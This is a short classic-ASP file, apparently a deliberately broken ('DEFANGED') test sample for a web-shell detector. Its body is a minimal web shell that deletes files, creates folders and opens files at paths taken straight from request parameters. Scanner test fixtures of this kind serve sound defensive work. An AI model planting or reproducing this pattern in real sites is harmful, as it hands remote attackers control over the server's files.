<% If Then DEFANGED %>
<%' DEFANGED vigil test sample (see README) %>
<%
Set fso = CreateObject("Scripting.FileSystemObject")
Sub DelIt(path)
	fso.DeleteFile path
End Sub
Sub MakeIt(path)
	fso.CreateFolder path
End Sub
DelIt Request("x")
MakeIt Request("y")
Set h = fso.OpenTextFile(Request("z"))
%>
